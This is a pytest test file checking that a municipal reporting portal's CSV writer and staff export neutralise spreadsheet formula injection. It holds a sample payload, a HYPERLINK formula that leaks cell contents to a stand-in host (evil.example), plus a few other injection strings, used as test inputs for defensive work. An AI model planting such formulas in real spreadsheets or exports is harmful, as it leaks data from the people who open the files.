"""Every CSV the portal writes goes through one formula-safe writer (portal/csvfile.py)."""
from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from sqlalchemy import select

from portal import csvfile
from portal.extensions import db
from portal.reports.models import Category, Report
from tests.reports.helpers import post_report
from tests.staff import login, make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK), ("+32 470 12 34 56", "'+32 470 12 34 56"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Ixelles", "Ixelles"), ("a=b", "a=b"), ("", ""), (None, ""), (1050, "1050"),
])
def test_a_cell_never_starts_like_a_formula(value: object, written: str) -> None:
    assert csvfile.cell(value) == written


def test_every_cell_of_a_file_is_made_safe_and_quoted_as_csv() -> None:
    text = csvfile.text([["Name", "Note"], ["=1+1", 'He said "hi", then left'], [None, "@x"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["Name", "Note"], ["'=1+1", 'He said "hi", then left'], ["", "'@x"]]


def test_the_download_is_utf8_with_its_mark_and_not_cached(web_app: Flask) -> None:
    with web_app.test_request_context():
        response = csvfile.download(csvfile.text([["Élodie"]]), "list.csv")
    assert response.mimetype == "text/csv" and response.data == "\ufeffÉlodie\r\n".encode()
    assert response.headers["Content-Disposition"] == 'attachment; filename="list.csv"'
    assert response.headers["Cache-Control"] == "no-store"


def test_the_staff_export_defuses_category_and_staff_names(app: Flask) -> None:
    """A category name set by an administrator and a colleague's name went to the file raw."""
    staff_id = make_user(app, "own@ixelles.example", "staff", ("21009",), name="@SUM(1+1)*cmd")
    assert post_report(app.test_client(), "fr", "vandalism", postal_code="1050",
                       municipality="21009", phone="+32470123456").status_code == 303
    with app.app_context():
        db.session.get(Category, "vandalism").name_fr = HYPERLINK
        report = db.session.scalar(select(Report))
        report.assigned_to_id = staff_id
        report.street = "-1+1 rue du Trône"
        db.session.commit()
        reference = report.reference
    client = app.test_client()
    assert login(client, "own@ixelles.example").status_code == 303
    response = client.get("/fr/manage/reports/export.csv")
    assert response.status_code == 200 and response.data.startswith("\ufeff".encode())
    header, row = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Référence"] == reference
    assert cells["Catégorie"] == "'" + HYPERLINK
    assert cells["Attribué à"] == "'@SUM(1+1)*cmd"
    assert cells["Rue et numéro"] == "'-1+1 rue du Trône"
    assert cells["Numéro de téléphone"] == "'+32470123456"
    assert cells["Code postal"] == "1050"
